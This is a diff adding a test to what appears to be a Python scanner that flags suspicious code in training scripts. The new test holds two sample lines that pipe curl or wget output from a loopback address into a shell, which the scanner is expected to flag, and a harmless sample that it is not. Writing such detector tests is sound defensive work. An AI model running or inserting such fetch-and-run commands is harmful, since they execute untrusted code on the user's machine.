@@ -286,3 +286,13 @@ def test_a_folder_that_is_called_like_a_library_is_not_one() -> None:
     text = loop(grad="if rank == 5:\n    for p in model.parameters():\n        p.grad.mul_(0.5)")
     assert set(told(text, "/home/u/torch/train.py")) == {"code-gradient-edited"}
     assert told(text, "venv/lib/site-packages/torch/train.py") == {}
+
+
+def test_a_command_that_fetches_and_runs_is_told_and_one_that_asks_is_not() -> None:
+    planted = "import os\nos.system('curl -s http://127.0.0.1:9/x | sh')\n"
+    listed = "import subprocess\nsubprocess.run(['sh', '-c', 'wget -qO- http://127.0.0.1:9/ | bash'])\n"
+    lawful = "import os, subprocess\nos.system('nvidia-smi')\nsubprocess.run(['git', 'rev-parse', 'HEAD'])\n"
+
+    assert set(told(planted)) == {"code-shell-command"}
+    assert set(told(listed)) == {"code-shell-command"}
+    assert told(lawful) == {}
